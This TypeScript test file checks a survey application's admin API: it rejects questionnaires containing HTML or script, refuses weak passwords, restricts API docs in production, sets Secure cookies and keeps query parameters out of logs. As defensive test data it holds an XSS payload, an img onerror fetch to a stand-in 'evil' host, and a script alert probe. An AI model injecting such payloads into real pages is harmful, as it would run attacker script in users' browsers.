import { Writable } from "node:stream";
import { buildDefaultQuestionnaire } from "@survey/questionnaire";
import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestApp, signIn, type TestApp } from "./support/test-app";
import { testDriver } from "./support/test-database";

const PRODUCTION = {
  NODE_ENV: "production",
  SMS_PROVIDER: "http",
  SMS_HTTP_URL: "http://127.0.0.1:9/sms",
  SMS_HTTP_TOKEN: "token-for-tests",
};

describe(`questionnaires refuse HTML and script (${testDriver})`, () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(() => t.close());

  it("answers 422 invalid_questionnaire to an html element that would run script on residents' phones", async () => {
    const admin = await signIn(t.app, "admin");
    // biome-ignore lint/suspicious/noExplicitAny: a questionnaire JSON edited as an attacker would
    const definition: any = buildDefaultQuestionnaire();
    const post = (changed: unknown) =>
      t.app.inject({
        method: "POST",
        url: "/api/admin/questionnaires",
        headers: admin.headers,
        payload: { code: "SCRIPTED", title: "带脚本的问卷", definition: changed },
      });

    const withHtml = structuredClone(definition);
    withHtml.pages[0].elements.push({ type: "html", name: "x", html: "<img src=x onerror=fetch('//evil')>" });
    const refused = await post(withHtml);
    expect(refused.statusCode).toBe(422);
    expect(refused.json().error).toBe("invalid_questionnaire");
    expect(JSON.stringify(refused.json().details)).toContain('type: \\"html\\"');

    const scriptInTitle = structuredClone(definition);
    scriptInTitle.pages[0].title = "第一页<script>alert(1)</script>";
    expect((await post(scriptInTitle)).statusCode).toBe(422);

    // Nothing was stored; the plain definition is still accepted as a new version.
    expect((await post(definition)).statusCode).toBe(201);
  });

  it("refuses blank-ish, repetitive and common passwords for new users (422 weak_password)", async () => {
    const admin = await signIn(t.app, "admin");
    const create = (password: string) =>
      t.app.inject({
        method: "POST",
        url: "/api/admin/users",
        headers: admin.headers,
        payload: {
          username: `u-${Math.random().toString(36).slice(2, 8)}`,
          displayName: "测试",
          password,
          role: "staff",
        },
      });
    for (const [password, reason] of [
      ["          ", "blank"],
      ["1234567890", "common"],
      ["aaaaaaaaaa", "too_simple"],
    ]) {
      const refused = await create(password ?? "");
      expect(refused.statusCode, password).toBe(422);
      expect(refused.json()).toMatchObject({ error: "weak_password", reason });
    }
    expect((await create("Correct-Horse-42")).statusCode).toBe(201);
  });

  it("serves the API docs to anyone outside production", async () => {
    expect((await t.app.inject({ method: "GET", url: "/api/docs/json" })).statusCode).toBe(200);
  });
});

describe(`production defaults: docs for signed-in users, Secure session cookie (${testDriver})`, () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ env: PRODUCTION });
  });
  afterAll(() => t.close());

  it("refuses /api/docs and its JSON to anonymous callers and serves them to a signed-in user", async () => {
    for (const url of ["/api/docs", "/api/docs/json", "/api/docs/static/index.html"]) {
      const anonymous = await t.app.inject({ method: "GET", url });
      expect(anonymous.statusCode, url).toBe(401);
      expect(anonymous.json().error).toBe("unauthenticated");
    }
    const staff = await signIn(t.app, "staff");
    const docs = await t.app.inject({ method: "GET", url: "/api/docs/json", headers: { cookie: staff.cookie } });
    expect(docs.statusCode).toBe(200);
    expect(docs.json().openapi).toMatch(/^3\./);
  });

  it("marks the session cookie Secure even when the proxy does not say https", async () => {
    const staff = await signIn(t.app, "staff");
    const response = await t.app.inject({
      method: "POST",
      url: "/api/auth/login",
      payload: { username: staff.username, password: staff.password },
    });
    expect(response.statusCode).toBe(200);
    expect(String(response.headers["set-cookie"])).toMatch(/; Secure/);
  });
});

describe(`a failed database statement is logged without its parameters (${testDriver})`, () => {
  let t: TestApp;
  let log = "";
  beforeAll(async () => {
    const logStream = new Writable({
      write(chunk, _encoding, done) {
        log += chunk.toString();
        done();
      },
    });
    t = await createTestApp({ logStream });
  });
  afterAll(() => t.close());

  it("logs the SQL state and the database's message, not drizzle's 'Failed query … params:'", async () => {
    await t.database.handle.db.execute(sql`alter table users rename to users_gone`);
    const secretName = "param-value-3fa2c9-must-not-be-logged";
    const response = await t.app.inject({
      method: "POST",
      url: "/api/auth/login",
      payload: { username: secretName, password: "whatever-password" },
    });
    expect(response.statusCode).toBe(500);
    expect(response.json()).toEqual({ error: "internal_error", message: "系统出了点问题，请稍后再试。" });
    const failures = log.split("\n").filter((line) => line.includes("request failed"));
    expect(failures).toHaveLength(1);
    const entry = JSON.parse(failures[0] ?? "{}");
    expect(entry.err).toMatchObject({ sqlState: "42P01", message: 'relation "users" does not exist' });
    expect(log).not.toContain(secretName);
    expect(log).not.toContain("params:");
    expect(log).not.toContain("Failed query");
  });
});
